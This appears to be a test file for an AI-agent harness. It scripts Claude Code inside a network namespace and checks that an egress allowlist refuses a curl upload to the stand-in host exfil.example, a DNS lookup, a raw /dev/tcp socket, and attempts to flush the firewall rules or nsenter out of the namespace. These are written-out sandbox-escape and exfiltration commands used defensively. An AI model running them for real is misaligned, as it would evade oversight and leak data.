/**
 * The egress allowlist with the real agent: Claude Code (the real CLI, the model scripted) runs in the
 * attempt's network namespace and tries to leave it three ways, each refused and reported, while the
 * model API and an allowed registry (a loopback stand-in) still answer.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { runAttempt } from "../../src/attempt/run-attempt.ts";
import {
  resultText,
  type ScriptedModelServer,
  sequence,
  startScriptedModel,
  toolResults,
} from "../../src/scripted/model-server.ts";
import { attemptSetup } from "../support/attempt.ts";
import { namespacesHere } from "../support/namespaces.ts";

let model: ScriptedModelServer | undefined;
let registry: Server | undefined;
afterEach(async () => {
  await model?.close();
  registry?.close();
  model = registry = undefined;
});

const bash = (command: string) => ({ name: "Bash", input: { command, description: command.slice(0, 40) } });

describe.skipIf(!namespacesHere())("an attempt's network, in a namespace of its own", () => {
  it("refuses curl, a DNS lookup and a raw socket to hosts off the list; the model API and the registry answer", async () => {
    registry = createServer((_req, res) => res.end("registry: left-pad 1.3.0\n"));
    await new Promise<void>((resolve) => registry!.listen(0, "127.0.0.1", resolve));
    const registryPort = (registry.address() as AddressInfo).port;
    const steps = [
      bash("curl -sS -m 10 https://exfil.example/upload; echo curl-exit=$?"),
      bash("getent hosts exfil.example; echo lookup-exit=$?"),
      // A raw socket to an address (TEST-NET-3): no proxy, no name, the packet filter alone.
      bash("timeout 10 bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'; echo socket-exit=$?"),
      bash(`curl -sS -m 10 http://127.0.0.1:${registryPort}/left-pad; echo registry-exit=$?`),
      // The agent cannot undo the rules: it has no capability left, and cannot leave the namespace.
      bash("nft flush ruleset; echo flush-exit=$?; nsenter --net=/proc/1/ns/net true; echo enter-exit=$?"),
      bash('agentrelay-complete --title "Tried the network"'),
    ];
    model = await startScriptedModel(sequence(steps, "Done."));
    const graph = `name: g
network: { allow: ["127.0.0.1:${registryPort}"] }
tasks:
  - id: reach
    description: Try the network.
`;
    const ctx = await attemptSetup(graph, "reach", model.url);
    const result = await runAttempt({ ...ctx, network: { mode: "namespace" } });

    const outputs = toolResults(model.requests.at(-1)!).map(resultText);
    expect(outputs[0]).toMatch(/403[\s\S]*curl-exit=56/);
    expect(outputs[1]).toContain("lookup-exit=2");
    expect(outputs[2]).toMatch(/Connection refused[\s\S]*socket-exit=1/);
    expect(outputs[3]).toContain("registry: left-pad 1.3.0");
    expect(outputs[3]).toContain("registry-exit=0");
    expect(outputs[4]).toMatch(/Operation not permitted[\s\S]*flush-exit=1/);
    expect(outputs[4]).not.toContain("enter-exit=0");
    // The model API answered every turn (through the credential proxy, which the allowlist names).
    expect(result).toMatchObject({ outcome: "succeeded", turns: steps.length + 1 });
    // Each refusal is logged with its host as it happens, and counted in the report.
    expect(ctx.lines).toContain("network: refused a request to exfil.example:443");
    expect(ctx.lines).toContain("network: refused a DNS lookup of exfil.example");
    expect(ctx.lines).toContain("network: refused a connection to 203.0.113.9:443");
    const report = result.opsConcerns.find((c) => c.startsWith("network: refused"));
    expect(report).toMatch(/exfil\.example:443 \(1 request\)/);
    expect(report).toMatch(/exfil\.example \(\d+ DNS lookups?\)/);
    expect(report).toMatch(/203\.0\.113\.9:443 \(1 connection\)/);
    expect(report).not.toContain(`${registryPort}`);
  }, 90_000);
});
